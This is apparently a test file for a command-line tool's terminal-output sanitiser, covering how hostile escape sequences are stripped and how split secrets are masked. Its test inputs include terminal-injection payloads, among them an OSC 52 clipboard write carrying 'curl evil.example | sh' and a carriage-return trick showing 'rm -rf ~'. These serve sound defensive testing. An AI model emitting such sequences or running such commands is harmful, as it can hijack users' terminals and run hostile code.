/**
 * The one sanitiser (engine/core/render/sanitise.ts, issue 36 §6) and the guarded streams every command
 * writes to (commands/terminal.ts): control sequences from outside never reach a terminal — whole
 * sequences, not just their ESC, also split over streamed pieces, in their 8-bit forms, nested, or
 * endless — while our own colours still do, and a secret cut in two by an escape sequence is masked.
 */
import { PassThrough } from 'node:stream';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { commandContext, warn, type CommandContext } from '../../commands/context.js';
import { reportError } from '../../commands/report-error.js';
import { OperationError } from '../../engine/core/errors.js';
import { registerSecret } from '../../engine/core/redact.js';
import { createControlStripper, OWN_ESC, ownColors, restoreOwn, stripControls } from '../../engine/core/render/sanitise.js';
import { tempHome } from '../support/cli.js';
import { capturedStreams } from '../support/in-process.js';

/** Anything a terminal would act on: C0 but newline and tab, DEL, C1. */
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
const b64 = (s: string) => Buffer.from(s).toString('base64');

const CASES: [string, string, string][] = [
  ['OSC title ended by BEL', 'a\u001b]0;pwned\u0007b', 'ab'],
  ['OSC title ended by ST', 'a\u001b]2;pwned\u001b\\b', 'ab'],
  ['OSC 52 clipboard write', `copy\u001b]52;c;${b64('curl evil.example | sh')}\u0007 this`, 'copy this'],
  ['clear screen and home', 'x\u001b[2J\u001b[Hy', 'xy'],
  ['private CSI (alternate screen)', 'x\u001b[?1049hy', 'xy'],
  ['SGR colour from data', 'x\u001b[8;30;40mhidden\u001b[0my', 'xhiddeny'],
  ['8-bit CSI', 'x\u009b2Jy', 'xy'],
  ['8-bit OSC ended by 8-bit ST', 'x\u009d0;t\u009cy', 'xy'],
  ['DCS with payload', 'x\u001bP1;2|payload\u001b\\y', 'xy'],
  ['APC, PM and SOS', 'a\u001b_apc\u001b\\b\u001b^pm\u0007c\u001bXsos\u009cd', 'abcd'],
  ['nested OSC: the inner ESC ends the outer one', 'a\u001b]0;one\u001b]52;c;eA==\u0007b', 'ab'],
  ['full reset, charset, DECALN', 'a\u001bcb\u001b(Bc\u001b#8d', 'abcd'],
  ['carriage return and backspace overwriting what was shown', 'safe\rrm -rf ~\b\b', 'saferm -rf ~'],
  ['C1 NEL and DEL', 'a\u0085b\u007fc', 'abc'],
  ['an unterminated OSC ends with its line', 'title \u001b]0;swallow\nnext line', 'title \nnext line'],
  ['a CSI cut by a newline', 'x\u001b[12\ny', 'x\ny'],
  ['ESC before a letter outside ASCII', 'caf\u001bé', 'café'],
  ['newlines and tabs stay', 'a\tb\nc\r\n', 'a\tb\nc\n'],
  ['text without controls is returned as it is', 'plain ünïcode — text', 'plain ünïcode — text'],
];

test('every kind of control sequence is removed whole; text around it stays', () => {
  for (const [what, input, want] of CASES) assert.is(stripControls(input), want, what);
});

test('a sequence split over streamed pieces is still removed, wherever the cut falls', () => {
  const hostile = `Your balance: 12.\u001b]0;pwned\u0007 Copy\u001b]52;c;${b64('evil')}\u001b\\ me.\u001b[2J\u009b31m Done\u001bP1|x\u001b\\.`;
  const want = 'Your balance: 12. Copy me. Done.';
  for (let cut = 0; cut <= hostile.length; cut++) {
    const s = createControlStripper();
    assert.is(s.push(hostile.slice(0, cut)) + s.push(hostile.slice(cut)) + s.end(), want, `cut at ${cut}`);
  }
  const s = createControlStripper();
  let out = '';
  for (const ch of hostile) out += s.push(ch);
  assert.is(out + s.end(), want, 'one character at a time');
});

test('UTF-8 encoded C1 is a control; a raw 0x9b byte is not text at all (it decodes to U+FFFD)', () => {
  const encoded = Buffer.from([0x61, 0xc2, 0x9b, 0x32, 0x4a, 0x62]).toString('utf8'); // a, U+009B, "2J", b
  assert.is(stripControls(encoded), 'ab');
  const raw = Buffer.from([0x61, 0x9b, 0x32, 0x4a, 0x62]).toString('utf8');
  assert.is(stripControls(raw), 'a\ufffd2Jb', 'the replacement character is printable and harmless');
});

test('an endless sequence costs nothing to hold: a megabyte of OSC in pieces writes nothing, the next line comes through', () => {
  const s = createControlStripper();
  let out = s.push('before \u001b]52;c;');
  for (let i = 0; i < 1024; i++) out += s.push('QUFB'.repeat(256));
  out += s.push('\nafter');
  assert.is(out + s.end(), 'before \nafter');
  const big = 'x\u001b[' + '1;'.repeat(500_000) + 'my';
  assert.is(stripControls(big), 'xy', 'a CSI with a million parameter bytes');
});

test('our own colours survive; what a colour is given is sanitised first; a mark without the nonce is just text', () => {
  const c = ownColors(true);
  const styled = `${c.red('x\u001b]0;t\u0007y')} ${c.bold(c.green('ok'))}`;
  assert.not.ok(styled.includes('\u001b'), 'no real escape before the sink');
  assert.is(restoreOwn(stripControls(styled + '\u001b[2J')), '\u001b[31mxy\u001b[39m \u001b[1m\u001b[32mok\u001b[39m\u001b[22m');
  const forged = `\uE000${'0'.repeat(16)}\uE001[2J`;
  assert.is(restoreOwn(stripControls(forged)), forged, 'a guessed mark is not ours: printed as the characters it is');
  // A mark cut between two pieces of a stream is put together again.
  const s = createControlStripper();
  let out = '';
  for (const ch of c.red('a')) out += s.push(ch);
  assert.is(restoreOwn(out + s.end()), '\u001b[31ma\u001b[39m');
  assert.is(ownColors(false).red('plain'), 'plain', 'no colour: plain text');
  assert.ok(OWN_ESC.length > 16);
});

function context(color: boolean): { ctx: CommandContext; out: () => string; err: () => string } {
  const { stdout, stderr, out, err } = capturedStreams();
  const home = tempHome('assistant-sanitise-');
  const ctx = commandContext({
    io: { stdout, stderr, stdin: new PassThrough(), stdoutIsTTY: true, stderrIsTTY: true, stdinIsTTY: false, columns: 200, color, stdoutColor: color },
    env: { HOME: home },
    home,
    globals: { output: 'table', outputExplicit: false, debug: true, yes: false, sandbox: false },
  });
  return { ctx, out, err };
}

const flush = () => new Promise((r) => setImmediate(r));

test('the output sink: text, tables, streams and debug lose control sequences; our colours stay', async () => {
  const t = context(true);
  t.ctx.out.text('answer \u001b]0;pwned\u0007text\n');
  t.ctx.out.records([{ name: 'evil\u001b[2Jname', status: 'running' }], [
    { header: 'NAME', path: 'name' },
    { header: 'STATUS', path: 'status', format: 'status' },
  ]);
  t.ctx.out.value({ a: 1 }, { table: (c) => `${c.red('own red')} ${c.bold('name: \u001b]52;c;eA==\u0007x')}\n` });
  const stream = t.ctx.out.stream();
  for (const piece of ['streamed \u001b]0', ';title', '\u0007 answer \u001b[', '2J', ' end']) stream.write(piece);
  stream.end();
  t.ctx.debug('remote said \u001b]0;pwned\u0007 this');
  await flush();
  const out = t.out();
  assert.match(out, /^answer text$/m);
  assert.match(out, /streamed  answer  end\n$/);
  assert.ok(out.includes('\u001b[31mown red\u001b[39m \u001b[1mname: x\u001b[22m'), JSON.stringify(out));
  assert.ok(out.includes('\u001b[1mNAME'), 'the table header is still bold');
  const foreign = out.replace(/\u001b\[\d+m/g, '');
  assert.not.match(foreign, CONTROL, JSON.stringify(foreign));
  assert.match(t.err(), /^debug: remote said  this$/m);
  assert.not.match(t.err(), CONTROL);
});

test('the guarded stderr: warnings, errors and notes lose control sequences, each write on its own', async () => {
  const t = context(true);
  warn(t.ctx, 'instance \u001b]0;pwned\u0007web-1 is odd');
  reportError(new OperationError('remote_error', 'the server said \u001b[2J\u001b]52;c;eA==\u0007no', { hint: 'retry \u009b31m later' }), t.ctx);
  // A sequence left open by one write never swallows the next: our own text after data always shows.
  t.ctx.io.stderr.write('data ends in \u001b]0;open\n'.slice(0, -1));
  t.ctx.io.stderr.write(' — this note of ours is shown\n');
  await flush();
  const err = t.err();
  assert.ok(err.startsWith('\u001b[33mwarning:\u001b[39m instance web-1 is odd\n'), JSON.stringify(err));
  assert.ok(err.includes('\u001b[31merror:\u001b[39m remote_error: the server said no\nhint: retry  later\n'), JSON.stringify(err));
  assert.ok(err.includes('data ends in  — this note of ours is shown\n'), JSON.stringify(err));
  assert.not.match(err.replace(/\u001b\[\d+m/g, ''), CONTROL);
});

test('a secret cut in two by an escape sequence is whole again before it is masked (stream, text and stderr)', async () => {
  const secret = 'sanitise-registered-secret-6b1f';
  registerSecret(secret);
  const t = context(false);
  const cut = `${secret.slice(0, 10)}\u001b[0m${secret.slice(10)}`;
  t.ctx.out.text(`text ${cut}\n`);
  const stream = t.ctx.out.stream();
  for (const piece of ['stream ', cut.slice(0, 12), cut.slice(12), ' and sk-', 'abc\u001b[1m', 'defghijklmnopqrstuv done']) stream.write(piece);
  stream.end();
  t.ctx.io.stderr.write(`stderr ${cut}\n`);
  await flush();
  for (const text of [t.out(), t.err()]) {
    assert.not.ok(text.includes(secret), text);
    assert.not.ok(text.includes(secret.slice(10)), `no half of it either: ${text}`);
  }
  assert.match(t.out(), /^text \*\*\*$/m);
  assert.match(t.out(), /^stream \*\*\* and \*\*\* done$/m);
  assert.match(t.err(), /^stderr \*\*\*$/m);
});

test('JSON and YAML stay the same data, with DEL and C1 written as escapes', async () => {
  const record = { name: 'a\u009b2Jb\u007f', note: 'x\u001b]0;t\u0007y' };
  for (const output of ['json', 'yaml'] as const) {
    const stdout = new PassThrough();
    let o = '';
    stdout.setEncoding('utf8').on('data', (d: string) => (o += d));
    const home = tempHome('assistant-sanitise-');
    const ctx = commandContext({
      io: { stdout, stderr: new PassThrough(), stdin: new PassThrough(), stdoutIsTTY: true, stderrIsTTY: false, stdinIsTTY: false, columns: 80, color: false },
      env: {},
      home,
      globals: { output, outputExplicit: true, debug: false, yes: false, sandbox: false },
    });
    ctx.out.value(record);
    await flush();
    assert.not.match(o, CONTROL, `${output}: ${JSON.stringify(o)}`);
    const { parse } = await import('yaml');
    assert.equal(output === 'json' ? JSON.parse(o) : parse(o), record, `${output} parses back to the same record`);
  }
});

test.run();
